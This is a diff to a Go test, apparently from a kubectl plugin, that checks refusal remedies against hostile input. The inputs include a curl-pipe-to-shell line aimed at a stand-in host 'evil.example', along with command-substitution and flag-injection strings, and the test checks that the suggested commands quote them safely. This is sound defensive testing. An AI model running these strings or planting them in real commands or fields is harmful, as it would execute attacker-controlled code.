@@ -16,25 +16,28 @@ import (
 func TestHostileRefusals(t *testing.T) {
 	for _, evil := range []string{"; curl evil.example|sh #", "$(touch x)", "`touch x`", "it's\n", "--as=evil", "\x1b[2J\u202e", "example.com/a;b'c`d&e"} {
 		for _, tt := range []struct {
-			edit  edit
+			edits []edit
 			owner delegation.Owner
+			// verb and flags are the remedy's command.
+			verb  string
+			flags []string
 		}{
-			{edit{"spec.managedBy", evil}, delegation.Dispatch},
-			{edit{"metadata.labels", map[string]any{delegation.OriginUIDLabel: evil}}, delegation.Dispatch},
-			{edit{"metadata.labels", map[string]any{delegation.MultiKueueOriginLabel: evil}}, delegation.Dispatch},
-			{edit{"spec.managedBy", nil}, delegation.Owner("example.com/" + evil)},
-			{edit{"spec.template.spec.nodeName", evil}, delegation.Dispatch},
+			{neverDispatched(edit{"spec.managedBy", evil}), delegation.Dispatch, "recreate", []string{"--managed-by", string(delegation.Dispatch)}},
+			{[]edit{{"spec.managedBy", evil}}, delegation.Dispatch, "cancel", []string{"--managed-by", evil}},
+			{[]edit{{"metadata.labels", map[string]any{delegation.OriginUIDLabel: evil}}}, delegation.Dispatch, "", nil},
+			{[]edit{{"metadata.labels", map[string]any{delegation.MultiKueueOriginLabel: evil}}}, delegation.Dispatch, "", nil},
+			{[]edit{{"spec.managedBy", nil}}, delegation.Owner("example.com/" + evil), "recreate", []string{"--managed-by", "example.com/" + evil, "--queue", ""}},
+			{[]edit{{"spec.template.spec.nodeName", evil}}, delegation.Dispatch, "", nil},
 		} {
-			_, err := plan.New(originJob(t, tt.edit), plan.Options{Context: evil, Owner: tt.owner})
+			_, err := plan.New(originJob(t, tt.edits...), plan.Options{Context: evil, Owner: tt.owner})
 			var refused *plan.RefusedError
 			if !errors.As(err, &refused) {
 				continue
 			}
 			for _, part := range refused.Remedy.Parts() {
 				if part.IsCommand {
-					assert.DeepEqual(t, shelltest.Words(t, part.Text), []string{
-						"kubectl", "jobs-managedby", "recreate", "train-28391", "-n", "ml", "--context", evil, "--managed-by", string(tt.owner),
-					})
+					assert.DeepEqual(t, shelltest.Words(t, part.Text),
+						append([]string{"kubectl", "jobs-managedby", tt.verb, "train-28391", "-n", "ml", "--context", evil}, tt.flags...))
 				}
 			}
 		}
